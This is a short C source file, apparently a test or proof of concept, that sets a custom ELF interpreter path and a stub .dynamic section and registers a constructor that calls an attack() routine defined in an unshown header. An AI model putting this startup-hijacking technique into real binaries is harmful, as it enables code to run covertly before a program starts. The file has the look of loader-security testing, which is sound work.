#include "attack.h"
static const char loader[] __attribute__((section(".interp"), used)) = PLACE "/kept";
static const int dynamic[] __attribute__((section(".dynamic"), used)) = { 1, 1, 0, 0 };
__attribute__((constructor)) static void early(void) { attack(); }
#include "body.h"
